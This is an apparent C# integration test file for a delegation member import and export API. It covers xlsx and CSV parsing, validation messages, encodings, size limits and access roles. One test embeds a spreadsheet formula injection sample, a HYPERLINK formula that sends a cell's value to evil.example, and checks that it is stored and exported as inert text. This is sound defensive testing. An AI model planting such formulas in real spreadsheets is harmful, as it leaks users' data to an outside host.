using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using CommissionPlanner.Web.Tests.Infrastructure;
using CommissionPlanner.Web.Tests.Planning;

namespace CommissionPlanner.Web.Tests.Members;

/// <summary>
/// <c>POST /api/delegations/{id}/members/import</c> and <c>GET …/members/export</c> with real files: .xlsx made here with the
/// Open XML SDK, one saved by LibreOffice (Files/), and CSV in UTF-8 and UTF-16.
/// </summary>
public sealed class MemberSheetApiTests(PlannerFixture fixture) : IClassFixture<PlannerFixture>
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    private static readonly string[] ChineseHeader = ["英文姓名", "姓名", "单位", "职务", "邮箱", "角色", "饮食要求", "无障碍需求", "翻译语言", "国籍"];

    /// <summary>The counterpart's list: five people, names in two scripts, needs; row 4 (the third person) with <paramref name="thirdEmail"/>.</summary>
    private static Workbook ChineseList(string thirdEmail = "li.na@example.cn") => new Workbook()
        .Row(ChineseHeader)
        .Row("Wang Zhigang", "王志刚", "科学技术部", "部长", "wang.zhigang@example.cn", "团长", "清真", "", "英语", "CN")
        .Row("Zhang Wei", "张伟", "清华大学", "教授", "zhang.wei@example.cn", "团员", "素食", "", "", "CN")
        .Row("Li Na", "李娜", "中国科学院", "研究员", thirdEmail, "member", "", "轮椅通道", "英语", "CN")
        .Row("Chen Jing", "陈静", "国家自然科学基金委员会", "主任", "chen.jing@example.cn", "official", "", "", "", "CN")
        .Row("Liu Yang", "刘洋", "科学技术部", "秘书", "liu.yang@example.cn", "工作人员", "不吃猪肉", "", "", "CN");

    [Fact]
    public async Task A_bad_email_in_row_4_is_reported_by_the_dry_run_and_the_commit_writes_nothing_then_the_fixed_file_commits_five_in_order_and_again_changes_nothing()
    {
        using var api = new PlanningClient(fixture.App.AdminClient());
        var jcm = await Jcm.SetUp(api);
        var china = (await api.CreateDelegation(jcm.ProgrammeId, "中国代表团", "CN")).Id();

        var bad = ChineseList("li.na at example.cn").Bytes();
        var dry = (await Import(api, china, bad, "delegation.xlsx", dryRun: true)).Ok();
        var rows = dry.Required("rows").EnumerateArray().ToList();
        Assert.Equal([2, 3, 4, 5, 6], rows.Select(r => r.Required("row").GetInt32()));
        Assert.Equal("refused", rows[2].Str("outcome"));
        Assert.Contains("Row 4, column E ('邮箱')", rows[2].Required("errors").Required("email")[0].GetString(), StringComparison.Ordinal);
        Assert.All(rows.Where(r => r.Required("row").GetInt32() != 4), r => Assert.Equal("created", r.Str("outcome")));
        Assert.Equal(4, dry.Required("counts").Required("created").GetInt32());
        Assert.Equal(1, dry.Required("counts").Required("refused").GetInt32());
        Assert.Equal("localName", dry.Required("mapping").Str("姓名"));

        var commit = await Import(api, china, bad, "delegation.xlsx");
        commit.Expect(HttpStatusCode.BadRequest);
        Assert.Equal("refused", commit.Json.Required("rows")[2].Str("outcome"));
        Assert.Empty(await Members(api, china));

        var good = ChineseList().Bytes();
        var done = (await Import(api, china, good, "delegation.xlsx")).Ok();
        Assert.Equal(5, done.Required("counts").Required("created").GetInt32());
        var members = await Members(api, china);
        Assert.Equal(["王志刚", "张伟", "李娜", "陈静", "刘洋"], members.Select(m => m.Str("localName")));
        Assert.Equal(["head", "member", "member", "official", "support"], members.Select(m => m.Str("role")));
        Assert.Equal(members.Select(m => m.Id()), done.Required("rows").EnumerateArray().Select(r => r.Str("personId")));
        var wang = (await api.Get($"/api/people/{members[0].Id()}/logistics")).Ok();
        Assert.Equal("清真", wang.Str("dietary"));
        Assert.Equal("英语", wang.Str("interpreterLanguage"));
        Assert.Equal("CN", wang.Str("nationality"));
        var li = (await api.Get($"/api/people/{members[2].Id()}/logistics")).Ok();
        Assert.Equal("轮椅通道", li.Str("accessibility"));

        // The same file again: every row unchanged, no version moves, no audit entry is written.
        var auditBefore = (await api.Get("/api/audit?limit=1000")).Ok().GetRawText();
        var again = (await Import(api, china, good, "delegation.xlsx")).Ok();
        Assert.Equal(5, again.Required("counts").Required("unchanged").GetInt32());
        Assert.All(again.Required("rows").EnumerateArray(), r => Assert.Equal("unchanged", r.Str("outcome")));
        Assert.Equal(members.Select(m => m.Required("version").GetInt32()), (await Members(api, china)).Select(m => m.Required("version").GetInt32()));
        Assert.Equal(auditBefore, (await api.Get("/api/audit?limit=1000")).Ok().GetRawText());

        // Needs are never audit values: the trail says which fields changed, not what they hold.
        Assert.DoesNotContain("清真", auditBefore, StringComparison.Ordinal);
        Assert.DoesNotContain("轮椅通道", auditBefore, StringComparison.Ordinal);
    }

    [Fact]
    public async Task English_headers_in_csv_read_the_same_in_utf8_and_utf16_with_or_without_a_byte_order_mark()
    {
        using var api = new PlanningClient(fixture.App.AdminClient());
        var jcm = await Jcm.SetUp(api);
        const string csv = "Full name,Local name,Organisation,Title,E-mail,Role,Dietary\r\nMargaret Ellery,,The Royal Society,Foreign Secretary,m.ellery@example.org,head,Vegetarian\r\n"
            + "\"Okafor, Dr Ada\",奥卡福,UKRI,Director,ada.okafor@example.org,,\r\n";
        Encoding[] encodings = [new UTF8Encoding(true), new UTF8Encoding(false), new UnicodeEncoding(false, true), new UnicodeEncoding(false, false), new UnicodeEncoding(true, true)];
        foreach (var encoding in encodings)
        {
            byte[] bytes = [.. encoding.GetPreamble(), .. encoding.GetBytes(csv)];
            var dry = (await Import(api, jcm.DelegationId, bytes, "list.csv", dryRun: true)).Ok();
            var rows = dry.Required("rows").EnumerateArray().ToList();
            Assert.True(rows.All(r => r.Str("outcome") == "created"), $"{encoding.WebName} bom={encoding.GetPreamble().Length}: {dry}");
        }

        var committed = (await Import(api, jcm.DelegationId, Encoding.UTF8.GetBytes(csv), "list.csv")).Ok();
        Assert.Equal(2, committed.Required("counts").Required("created").GetInt32());
        var ada = (await Members(api, jcm.DelegationId)).Single(m => m.Str("email") == "ada.okafor@example.org");
        Assert.Equal("Okafor, Dr Ada", ada.Str("fullName"));
        Assert.Equal("member", ada.Str("role"));
    }

    [Fact]
    public async Task A_formula_is_stored_as_text_and_exported_as_text_and_the_exports_come_back_unchanged()
    {
        using var api = new PlanningClient(fixture.App.AdminClient());
        var jcm = await Jcm.SetUp(api);
        var delegation = (await api.CreateDelegation(jcm.ProgrammeId, "Formula delegation", "GB")).Id();
        const string hyperlink = "HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click me\")";
        var sheet = new Workbook()
            .Row("Full name", "Organisation", "Title", "E-mail", "Dietary")
            .Row("Dr Formula", new Workbook.Formula(hyperlink, "Click me"), "Adviser", "formula@example.org", "=1+1")
            .Bytes();
        (await Import(api, delegation, sheet, "formula.xlsx")).Ok();
        var person = Assert.Single(await Members(api, delegation));
        Assert.Equal("=" + hyperlink, person.Str("organisation"));

        using var xlsx = await fixture.App.AdminClient().GetAsync(new Uri($"/api/delegations/{delegation}/members/export?format=xlsx", UriKind.Relative), Cancel);
        Assert.Equal(HttpStatusCode.OK, xlsx.StatusCode);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx.Content.Headers.ContentType?.MediaType);
        var exported = await xlsx.Content.ReadAsByteArrayAsync(Cancel);
        var (rows, hasFormula) = Workbook.ReadBack(exported);
        Assert.False(hasFormula);
        Assert.Equal(["Full name", "Local name", "Organisation", "Title", "E-mail", "Role", "Dietary", "Accessibility", "Interpreter language", "Nationality", "Security clearance"], rows[0]);
        Assert.Equal("=" + hyperlink, rows[1][2]);
        Assert.Equal("=1+1", rows[1][6]);

        using var csvResponse = await fixture.App.AdminClient().GetAsync(new Uri($"/api/delegations/{delegation}/members/export?format=csv", UriKind.Relative), Cancel);
        var csv = await csvResponse.Content.ReadAsByteArrayAsync(Cancel);
        Assert.Contains("\"'=HYPERLINK(", Encoding.UTF8.GetString(csv), StringComparison.Ordinal);

        // Out and back: both exports import as "unchanged".
        foreach (var (bytes, name) in new[] { (exported, "members.xlsx"), (csv, "members.csv") })
        {
            var back = (await Import(api, delegation, bytes, name)).Ok();
            Assert.Equal("unchanged", Assert.Single(back.Required("rows").EnumerateArray()).Str("outcome"));
        }
    }

    [Fact]
    public async Task The_sheet_saved_by_LibreOffice_reads_like_the_others()
    {
        using var api = new PlanningClient(fixture.App.AdminClient());
        var jcm = await Jcm.SetUp(api);
        var delegation = (await api.CreateDelegation(jcm.ProgrammeId, "LibreOffice delegation", "CN")).Id();
        var bytes = await File.ReadAllBytesAsync(Path.Combine(AppContext.BaseDirectory, "Members", "Files", "delegation-libreoffice.xlsx"), Cancel);
        var dry = (await Import(api, delegation, bytes, "delegation-libreoffice.xlsx", dryRun: true)).Ok();
        var rows = dry.Required("rows").EnumerateArray().ToList();
        Assert.Equal(5, rows.Count);
        Assert.Equal(["created", "created", "refused", "created", "created"], rows.Select(r => r.Str("outcome")));
        Assert.Contains("Row 4", rows[2].Required("errors").Required("email")[0].GetString(), StringComparison.Ordinal);
        Assert.Equal("fullName", dry.Required("mapping").Str("英文姓名"));
    }

    [Fact]
    public async Task Merged_or_hidden_headers_dates_typed_as_numbers_duplicates_and_oversized_files_are_messages_not_500s()
    {
        using var api = new PlanningClient(fixture.App.AdminClient());
        var jcm = await Jcm.SetUp(api);
        var id = jcm.DelegationId;
        var before = (await Members(api, id)).Count;

        var merged = new Workbook().Row("Full name", "", "Organisation", "Title", "E-mail").Row("A", "", "O", "T", "a@example.org").Merge("A1:B1").Bytes();
        var problem = await Import(api, id, merged, "merged.xlsx", dryRun: true);
        PlanningAssert.Problem(problem, HttpStatusCode.BadRequest, "header");
        Assert.Contains("Row 1, column A: the header cell is merged (A1:B1)", problem.Text, StringComparison.Ordinal);

        var hidden = new Workbook().Row("Full name", "Organisation", "Title", "E-mail", "Secret").Row("A", "O", "T", "a@example.org", "x").HideColumn(5).Bytes();
        problem = await Import(api, id, hidden, "hidden.xlsx", dryRun: true);
        PlanningAssert.Problem(problem, HttpStatusCode.BadRequest, "header");
        Assert.Contains("column E: the column is hidden", problem.Text, StringComparison.Ordinal);

        var dates = new Workbook().Row("Full name", "Organisation", "Title", "E-mail")
            .Row("A", "O", new Workbook.TypedDate(new DateTime(2025, 3, 12)), "dated@example.org")
            .Row("B", "O", "T", "dup@example.org").Row("C", "O", "T", "DUP@example.org").Bytes();
        var rows = (await Import(api, id, dates, "dates.xlsx", dryRun: true)).Ok().Required("rows");
        Assert.Contains("a date (2025-03-12) stored as a number", rows[0].Required("errors").Required("title")[0].GetString(), StringComparison.Ordinal);
        Assert.Contains("Rows 3, 4 have the same e-mail", rows[1].Required("errors").Required("email")[0].GetString(), StringComparison.Ordinal);
        Assert.Equal("refused", rows[2].Str("outcome"));

        var tooMany = new StringBuilder("Full name,Organisation,Title,E-mail\n");
        for (var i = 0; i < 2001; i++)
        {
            tooMany.Append(System.Globalization.CultureInfo.InvariantCulture, $"P{i},O,T,p{i}@example.org\n");
        }

        PlanningAssert.Problem(await Import(api, id, Encoding.UTF8.GetBytes(tooMany.ToString()), "many.csv", dryRun: true), HttpStatusCode.BadRequest, "file");

        var oversized = new byte[(5 * 1024 * 1024) + 1];
        var tooLarge = await Import(api, id, oversized, "big.csv", dryRun: true);
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, tooLarge.Status);
        Assert.Equal("application/problem+json", tooLarge.MediaType);

        PlanningAssert.Problem(await Import(api, id, [1, 2, 3, 4], "junk.xlsx", dryRun: true), HttpStatusCode.BadRequest, "file");
        PlanningAssert.Problem(await Import(api, id, [1, 2, 3], "list.pdf", dryRun: true), HttpStatusCode.BadRequest, "file");
        PlanningAssert.Problem(await Import(api, id, Encoding.UTF8.GetBytes("Full name\nA\n"), "a.csv", dryRun: true, mapping: "{\"Full name\": 3}"), HttpStatusCode.BadRequest);
        PlanningAssert.Problem(await Import(api, Guid.NewGuid().ToString(), Encoding.UTF8.GetBytes("x"), "a.csv"), HttpStatusCode.NotFound);
        PlanningAssert.Problem(await api.Post($"/api/delegations/{id}/members/import", new { }), HttpStatusCode.BadRequest, "file");
        Assert.Equal(before, (await Members(api, id)).Count);
    }

    [Fact]
    public async Task An_adjusted_mapping_is_remembered_for_the_delegation_once_committed()
    {
        using var api = new PlanningClient(fixture.App.AdminClient());
        var jcm = await Jcm.SetUp(api);
        var delegation = (await api.CreateDelegation(jcm.ProgrammeId, "Mapping delegation", "GB")).Id();
        var sheet = Encoding.UTF8.GetBytes("Name,Employer,Job,Mail,Notes\r\nA Person,O,T,a.person@example.org,Vegan\r\n");
        var dry = (await Import(api, delegation, sheet, "m.csv", dryRun: true)).Ok();
        Assert.Equal(JsonValueKind.Null, dry.Required("mapping").Required("Notes").ValueKind);

        (await Import(api, delegation, sheet, "m.csv", mapping: "{\"Notes\":\"dietary\"}")).Ok();
        var later = (await Import(api, delegation, sheet, "m.csv", dryRun: true)).Ok();
        Assert.Equal("dietary", later.Required("mapping").Str("Notes"));
        Assert.Equal("unchanged", later.Required("rows")[0].Str("outcome"));
    }

    [Fact]
    public async Task Only_admin_and_organiser_keys_import_or_export()
    {
        using var admin = new PlanningClient(fixture.App.AdminClient());
        var jcm = await Jcm.SetUp(admin);
        using var viewer = new PlanningClient(fixture.App.ClientWithKey(await admin.CreateKey("sheet viewer", "viewer")));
        using var organiser = new PlanningClient(fixture.App.ClientWithKey(await admin.CreateKey("sheet organiser", "organiser")));
        var sheet = Encoding.UTF8.GetBytes("Full name,Organisation,Title,E-mail\nA,O,T,org.one@example.org\n");
        PlanningAssert.Problem(await Import(viewer, jcm.DelegationId, sheet, "a.csv", dryRun: true), HttpStatusCode.Forbidden);
        PlanningAssert.Problem(await viewer.Get($"/api/delegations/{jcm.DelegationId}/members/export"), HttpStatusCode.Forbidden);
        (await Import(organiser, jcm.DelegationId, sheet, "a.csv")).Ok();
        (await organiser.Get($"/api/delegations/{jcm.DelegationId}/members/export?format=csv")).Expect(HttpStatusCode.OK);
        PlanningAssert.Problem(await organiser.Get($"/api/delegations/{jcm.DelegationId}/members/export?format=pdf"), HttpStatusCode.BadRequest, "format");
    }

    internal static Task<ApiResult> Import(
        PlanningClient api, string delegationId, byte[] bytes, string fileName, bool dryRun = false, string? mapping = null)
    {
        var form = new MultipartFormDataContent();
        var file = new ByteArrayContent(bytes);
        file.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
        form.Add(file, "file", fileName);
        if (mapping is not null)
        {
            form.Add(new StringContent(mapping, Encoding.UTF8), "mapping");
        }

        return api.Send(HttpMethod.Post, $"/api/delegations/{delegationId}/members/import{(dryRun ? "?dryRun=true" : "")}", form);
    }

    internal static async Task<List<JsonElement>> Members(PlanningClient api, string delegationId) =>
        (await api.Get($"/api/delegations/{delegationId}")).Ok().Required("members").EnumerateArray().ToList();
}
